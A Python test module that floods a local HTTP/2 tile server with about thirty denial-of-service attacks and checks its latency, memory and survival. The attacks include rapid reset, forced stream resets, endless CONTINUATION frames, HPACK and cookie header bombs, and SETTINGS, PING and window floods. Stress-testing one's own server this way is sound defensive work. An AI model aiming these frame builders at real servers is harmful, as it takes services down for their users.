"""Attacks with frames of HTTP/2: floods, resets, endless heads, and fields that grow when they are decoded."""
import collections
import contextlib
import dataclasses
import json
import random
import time

from support import certificate, http2
from support.machine import beside, fetch, two_cores
from support.probe import Series, probe
from support.tileserver import TileServer

from .tls import on_core
from .verdict import expect

MIB = 1 << 20
BOUND = 96
LAYERS = f"""\
server: {{ reactors: 1, memory: {BOUND}MiB }}
cache: {{ memory: 16MiB }}
layers:
  solid: {{ generator: solid }}
  fractal: {{ generator: mandelbrot, maxZoom: 20 }}
"""
PATH = "/solid/1/0/0.png"
# A tile of 36 KB, which is drawn before the attack.
LARGE = "/fractal/0/0/0.png"
# Maximum milliseconds of the slowest hundredth of hits: twice a quiet server's, plus this.
HITS = 5
SECONDS = 4


@dataclasses.dataclass
class Place:
    """A running server and what it did without an attack."""
    server: TileServer
    identity: certificate.Certificate
    # The settings of a TLS client.
    context: object = None
    # Results of hits without an attack.
    quiet: dict = None
    counts: collections.Counter = dataclasses.field(default_factory=collections.Counter)

    def connect(self, beginning=None, source="127.0.9.1", **options):
        return http2.Client(self.server.tls_url, self.context, beginning, source, **options)

    def hits(self, seconds):
        """Returns the results of requests for a cached tile over plain HTTP and over HTTP/2."""
        series = [Series("plain", PATH, 1 / 100), Series("h2", PATH, 1 / 100, url=self.server.tls_url, http2=True)]
        return probe(self.server.url, series, seconds, certificate=self.identity.file)

    def events(self):
        """Returns the number of lines of the server's log by event and reason."""
        text = self.server.log.read_text(errors="replace")
        found = collections.Counter()
        for line in text.splitlines():
            if not line.startswith("{"):
                continue
            with contextlib.suppress(ValueError, KeyError):
                fields = json.loads(line)
                name = fields["ev"]
                found[f"{name}:{fields['why']}" if "why" in fields else name] += 1
        return found


@contextlib.contextmanager
def place(program, directory, layers=LAYERS, draws=False):
    """Starts a server on a core of its own, and measures what it does without an attack.

    If the attack asks for tiles that must be drawn, `draws` is true. The measure is then taken beside four clients of
    HTTP/1.1 that ask for such tiles, because the drawing itself needs the server's core.
    """
    identity = certificate.make(directory / "identity")
    core, load_core = two_cores()
    with on_core(load_core), TileServer(program, directory, layers, core, identity=identity) as server:
        made = Place(server, identity, http2.context(identity.file))
        expect(fetch(server.url + LARGE, timeout=60)[0] == 200, "the large tile cannot be had")
        made.hits(0.5)
        with beside(ask_for_drawing, server, each=range(4 if draws else 0)):
            made.quiet = made.hits(SECONDS)
        yield made


def ask_for_drawing(over, server, number):
    """Asks for tiles that must be drawn, one after the other."""
    while not over.is_set():
        with contextlib.suppress(OSError):
            fetch(server.url + slow_path(), timeout=5)


class Peak:
    """The most memory of the server while the block runs."""

    def __init__(self, server):
        self.server, self.anon, self.resident = server, 0, 0

    def run(self, over):
        while not over.wait(0.05):
            with contextlib.suppress(OSError):
                self.anon = max(self.anon, self.server.anon_bytes() / MIB)
                self.resident = max(self.resident, self.server.resident_bytes() / MIB)


def judged(found, seen, peak):
    """Fails if others' hits were slower than their bar, if the process took more memory than its bound, or if it
    ended."""
    server, texts, wrong = found.server, [], []
    if server.process.poll() is not None:
        wrong.append(f"the process has ended with {server.process.poll()}")
    for name, result in seen.items():
        quiet = found.quiet[name].p99
        bar = 2 * quiet + HITS
        texts.append(f"{name} p99 {result.p99:.1f} ms ({quiet:.1f} alone)")
        if result.unwell:
            wrong.append(f"others' {name} got {json.dumps(result.unwell)}")
        if result.p99 > bar:
            wrong.append(f"p99 of {name} hits {result.p99:.1f} ms, at most {bar:.1f}")
    texts.append(f"{peak.anon:.0f} MiB of {BOUND} (RSS {peak.resident:.0f})")
    if peak.anon > BOUND:
        wrong.append(f"the process takes {peak.anon:.0f} MiB of at most {BOUND}")
    texts.append(", ".join(f"{name} {count}" for name, count in sorted(found.counts.items())))
    texts.append("log: " + ", ".join(f"{name} {count}" for name, count in sorted(found.events().items()) if count))
    expect(not wrong, "; ".join([*wrong, *texts]))
    return "; ".join(texts)


def flood(program, directory, attack, clients=2, layers=LAYERS, draws=False):
    """Runs `attack(over, place)` in threads while others get tiles, and judges what they saw."""
    with place(program, directory, layers, draws) as found:
        peak = Peak(found.server)
        with beside(peak.run), beside(guarded(attack), found, each=range(clients)):
            time.sleep(0.3)
            seen = found.hits(SECONDS)
        # What the attack left behind must work.
        after = found.hits(0.5)
        expect(not any(result.unwell for result in after.values()), "after the attack no tile comes")
        return judged(found, seen, peak)


def guarded(attack):
    """Returns an attack that goes on after a refused connection."""
    def run(over, found, number):
        while not over.is_set():
            try:
                attack(over, found)
            except OSError as error:
                found.counts[f"attacker's {type(error).__name__}"] += 1
                time.sleep(0.05)
    return run


def repeat(over, found, make, beginning=None, batch=50, **options):
    """Opens connections one after the other, and sends `make(client)` again and again until the server closes."""
    with found.connect(beginning, **options) as client:
        found.counts["connections"] += 1
        while not over.is_set() and client.stream < 1 << 29:
            sent = client.send(b"".join(make(client) for _ in range(batch)))
            found.counts["sent"] += batch
            if not client.read() or not sent or client.goaways:
                break
        client.read(0.05)
        for code in client.goaways[-1:]:
            found.counts[f"goaway {code}"] += 1
        if not client.isOpen and not client.goaways:
            found.counts["closed"] += 1


def flooder(make, beginning=None, batch=50):
    def attack(over, found):
        repeat(over, found, make, beginning, batch)
    return attack


# Resets.

def slow_path():
    return f"/fractal/18/{random.randrange(1 << 18)}/{random.randrange(1 << 18)}.png"


def rapid_reset(program, directory):
    """Requests that are reset at once (CVE-2023-44487), for a cached tile."""
    def make(client):
        stream = client.next()
        return http2.request(stream, PATH) + http2.reset(stream)
    return flood(program, directory, flooder(make))


def rapid_reset_slow(program, directory):
    """Requests for tiles that must be drawn, reset while they are drawn, over ever new connections."""
    def make(client):
        stream = client.next()
        return http2.request(stream, slow_path()) + http2.reset(stream)
    return flood(program, directory, flooder(make, batch=20), draws=True)


def made_reset(*frames_of):
    def make(client):
        stream = client.next()
        return http2.request(stream, slow_path()) + b"".join(frame(stream) for frame in frames_of)
    return make


def reset_by_window_zero(program, directory):
    """The server is made to reset (CVE-2025-8671): WINDOW_UPDATE of 0 on a stream."""
    return flood(program, directory, flooder(made_reset(lambda stream: http2.window_update(stream, 0))), draws=True)


def reset_by_window_overflow(program, directory):
    """The server is made to reset: a window of more than 2^31-1."""
    overflow = made_reset(lambda stream: http2.window_update(stream, http2.MOST_WINDOW))
    return flood(program, directory, flooder(overflow), draws=True)


def reset_by_late_data(program, directory):
    """The server is made to reset: DATA after the end of the stream."""
    return flood(program, directory, flooder(made_reset(lambda stream: http2.frame(http2.DATA, 0, stream, b"x"))), draws=True)


def reset_by_late_headers(program, directory):
    """The server is made to reset: HEADERS after the end of the stream."""
    return flood(program, directory, flooder(made_reset(lambda stream: http2.request(stream, PATH))), draws=True)


def reset_by_bad_head(program, directory):
    """The server is made to reset: heads with a field name in upper case."""
    def make(client):
        return http2.request(client.next(), PATH, fields=[(b"Upper", b"x")])
    return flood(program, directory, flooder(make))


def reset_by_length(program, directory):
    """The server is made to reset: content that is longer than its content-length."""
    def make(client):
        stream = client.next()
        return (http2.request(stream, PATH, b"POST", [(b"content-length", b"1")], ends=False)
                + http2.frame(http2.DATA, 0, stream, b"xxx"))
    return flood(program, directory, flooder(make))


def reset_by_priority(program, directory):
    """The server is made to reset: a stream that depends on itself."""
    def make(client):
        stream = client.next()
        return http2.request(stream, slow_path()) + http2.frame(
            http2.PRIORITY, 0, stream, stream.to_bytes(4, "big") + b"\x10")
    return flood(program, directory, flooder(make), draws=True)


def refused_streams(program, directory):
    """Streams beyond the limit of open streams, in a row, which the server refuses."""
    def attack(over, found):
        with found.connect() as client:
            found.counts["connections"] += 1
            client.acknowledges = False
            while not over.is_set() and client.isOpen and not client.goaways:
                client.send(b"".join(
                    http2.request(client.next(), PATH, b"POST", [(b"content-length", b"9")], ends=False)
                    for _ in range(100)))
                client.read()
                found.counts["sent"] += 100
            found.counts["refused"] += sum(code == http2.REFUSED_STREAM for code in client.resets.values())
            for code in client.goaways[-1:]:
                found.counts[f"goaway {code}"] += 1
    return flood(program, directory, attack)


# Heads.

def continuation(size):
    def attack(over, found):
        piece = http2.frame(http2.CONTINUATION, 0, 1, http2.field(b"x", b"y" * max(size - 4, 0))[:size])
        with found.connect() as client:
            found.counts["connections"] += 1
            client.send(http2.frame(http2.HEADERS, http2.END_STREAM, 1, http2.head(PATH)))
            while not over.is_set() and client.send(piece * 20) and client.read() and not client.goaways:
                found.counts["sent"] += 20
            client.read(0.05)
            for code in client.goaways[-1:]:
                found.counts[f"goaway {code}"] += 1
    return attack


def continuation_empty(program, directory):
    """CONTINUATION frames without content and without end."""
    return flood(program, directory, continuation(0))


def continuation_large(program, directory):
    """CONTINUATION frames of 120 bytes without end."""
    return flood(program, directory, continuation(120))


def bomb(name, value, size=16_000, frames=8):
    """Returns a maker of requests whose fields take one byte each on the wire (CVE-2026-49975)."""
    def make(client):
        stream = client.next()
        block = http2.head(PATH)
        if stream == 1:
            block += http2.field(name, value, indexed=True)
        sent = http2.frame(http2.HEADERS, http2.END_STREAM, stream, block + b"\xbe" * (size - len(block)))
        for number in range(frames):
            sent += http2.frame(
                http2.CONTINUATION, http2.END_HEADERS if number == frames - 1 else 0, stream, b"\xbe" * size)
        return sent
    return make


def hpack_bomb(program, directory):
    """A field of 4,000 bytes in the table of HPACK, then heads with 140,000 references to it."""
    return flood(program, directory, flooder(bomb(b"x", b"y" * 4_000, frames=7), batch=1))


def cookie_bomb(program, directory):
    """Crumbs of cookies, one byte each on the wire."""
    return flood(program, directory, flooder(bomb(b"cookie", b"a=b", frames=7), batch=1))


def cookie_heads(program, directory):
    """Requests with as many fields as the server takes, each of one byte on the wire."""
    def make(client):
        stream = client.next()
        block = http2.head(PATH)
        if stream == 1:
            block += http2.field(b"cookie", b"a" * 300, indexed=True)
        return http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream, block + b"\xbe" * 90)
    return flood(program, directory, flooder(make, batch=50))


def table_sizes(program, directory):
    """SETTINGS that change the size of the table of HPACK again and again, with requests."""
    def make(client):
        return (http2.settings(HEADER_TABLE_SIZE=0) + http2.settings(HEADER_TABLE_SIZE=(1 << 32) - 1)
                + http2.request(client.next(), PATH))
    return flood(program, directory, flooder(make, batch=20))


def endless_head(program, directory):
    """200 connections whose heads never end."""
    def attack(over, found):
        with contextlib.ExitStack() as stack:
            clients = [stack.enter_context(found.connect()) for _ in range(200)]
            found.counts["connections"] += len(clients)
            for client in clients:
                client.send(http2.frame(http2.HEADERS, http2.END_STREAM, 1, http2.head(PATH)))
            while not over.wait(0.5):
                for client in clients:
                    client.read()
                found.counts["open"] = sum(client.isOpen for client in clients)
    return flood(program, directory, attack, clients=1)


# Frames that cost the server an answer.

def settings_flood(program, directory):
    """SETTINGS without end."""
    return flood(program, directory, flooder(
        lambda client: http2.settings(INITIAL_WINDOW_SIZE=random.randrange(1 << 20))))


def settings_unread(program, directory):
    """SETTINGS and PINGs without end by a client that reads nothing."""
    def attack(over, found):
        with found.connect(receive=4_096, timeout=1) as client:
            found.counts["connections"] += 1
            while not over.is_set() and client.send(
                    (http2.settings(ENABLE_PUSH=0) + http2.frame(http2.PING, payload=b"12345678")) * 40):
                found.counts["sent"] += 80
    return flood(program, directory, attack)


def large_settings(program, directory):
    """SETTINGS with 2,700 values each."""
    payload = (b"\x00\x04\x00\x01\x00\x00") * 2_700
    return flood(program, directory, flooder(lambda client: http2.frame(http2.SETTINGS, payload=payload), batch=2))


def ping_flood(program, directory):
    """PINGs without end."""
    return flood(program, directory, flooder(lambda client: http2.frame(http2.PING, payload=b"12345678")))


def ping_batches(program, directory):
    """PINGs in batches that the server answers before the next."""
    def attack(over, found):
        with found.connect() as client:
            found.counts["connections"] += 1
            while not over.is_set() and client.send(http2.frame(http2.PING, payload=b"12345678") * 90):
                found.counts["sent"] += 90
                wanted = client.pings + 90
                if not client.read_until(lambda: client.pings >= wanted, 1):
                    break
    return flood(program, directory, attack)


def empty_data(program, directory):
    """DATA frames without content on open streams."""
    def make(client):
        if client.stream < 0:
            return http2.request(client.next(), PATH, b"POST", ends=False)
        return http2.frame(http2.DATA, 0, 1)
    return flood(program, directory, flooder(make, batch=500))


def padded_data(program, directory):
    """DATA frames of padding alone."""
    def make(client):
        if client.stream < 0:
            return http2.request(client.next(), PATH, b"POST", ends=False)
        return http2.frame(http2.DATA, 8, 1, b"\xff" + bytes(255))
    return flood(program, directory, flooder(make, batch=50))


def empty_headers(program, directory):
    """HEADERS frames without a field, on new streams and on ended ones."""
    def make(client):
        stream = client.next() if client.stream < 0 or random.random() < 0.01 else client.stream
        return http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream)
    return flood(program, directory, flooder(make, batch=50))


def closed_headers(program, directory):
    """Heads of 16 KB for streams that have ended, which must still be decoded."""
    def make(client):
        if client.stream < 0:
            client.stream = 1
            return http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, 1,
                               http2.head(PATH) + http2.field(b"x", b"y" * 4_000, indexed=True)) + http2.reset(1)
        return http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, 1, b"\xbe" * 16_000)
    return flood(program, directory, flooder(make, batch=2))


def priorities(program, directory):
    """PRIORITY and PRIORITY_UPDATE frames for streams that do not exist."""
    def make(client):
        stream = 2 * random.randrange(1 << 20) + 1
        return (http2.frame(http2.PRIORITY, 0, stream, b"\x00\x00\x00\x00\x10")
                + http2.priority_update(stream, b"u=1"))
    return flood(program, directory, flooder(make))


def priorities_of_one(program, directory):
    """PRIORITY_UPDATE frames for a stream that exists, each with another priority."""
    def make(client):
        if client.stream < 0:
            return http2.request(client.next(), PATH, b"POST", ends=False)
        return http2.priority_update(1, b"u=%d, i" % random.randrange(8))
    return flood(program, directory, flooder(make))


def unknown_frames(program, directory):
    """Frames of a type that nobody knows, and their flags."""
    return flood(program, directory, flooder(lambda client: http2.frame(0xBA, 0xFF, 7, bytes(100))))


def window_flood(program, directory):
    """WINDOW_UPDATE frames without end."""
    return flood(program, directory, flooder(lambda client: http2.window_update(0, 1), batch=500))


def window_swings(program, directory):
    """SETTINGS that make the windows of 100 open streams huge and small by turns."""
    def make(client):
        if client.stream < 0:
            return b"".join(http2.request(client.next(), LARGE) for _ in range(100))
        return http2.settings(INITIAL_WINDOW_SIZE=0) + http2.settings(INITIAL_WINDOW_SIZE=1)
    return flood(program, directory, flooder(make, http2.settings(INITIAL_WINDOW_SIZE=0), batch=20))


def huge_window(program, directory):
    """A huge first window, which SETTINGS then push over the most, with open streams."""
    def make(client):
        opened = http2.request(client.next(), LARGE)
        return (opened + http2.window_update(client.stream, 1 << 30)
                + http2.settings(INITIAL_WINDOW_SIZE=http2.MOST_WINDOW))
    return flood(program, directory, flooder(make, http2.settings(INITIAL_WINDOW_SIZE=http2.MOST_WINDOW - (1 << 30))))


def goaway_more(program, directory):
    """GOAWAY by the client, then more requests."""
    def make(client):
        return http2.goaway(0) + http2.request(client.next(), PATH)
    return flood(program, directory, flooder(make, batch=10))


def pipelines(program, directory):
    """128 documents of 65 layers at once, again and again, over one connection."""
    layers = LAYERS + "".join(f"  layer{number}: {{ generator: solid }}\n" for number in range(65))

    def attack(over, found):
        with found.connect(http2.settings(INITIAL_WINDOW_SIZE=http2.MOST_WINDOW)
                           + http2.window_update(0, 1 << 30)) as client:
            found.counts["connections"] += 1
            while not over.is_set() and client.isOpen:
                last = client.stream + 2 * 100
                client.send(b"".join(http2.request(client.next(), "/layers.json") for _ in range(100)))
                client.read_until(lambda: last in client.ended, 5)
                found.counts["documents"] += 100
    return flood(program, directory, attack, clients=1, layers=layers)


ATTACKS = [
    rapid_reset, rapid_reset_slow, reset_by_window_zero, reset_by_window_overflow, reset_by_late_data,
    reset_by_late_headers, reset_by_bad_head, reset_by_length, reset_by_priority, refused_streams, continuation_empty,
    continuation_large, hpack_bomb, cookie_bomb, cookie_heads, table_sizes, endless_head, settings_flood,
    settings_unread, large_settings, ping_flood, ping_batches, empty_data, padded_data, empty_headers, closed_headers,
    priorities, priorities_of_one, unknown_frames, window_flood, window_swings, huge_window, goaway_more, pipelines]
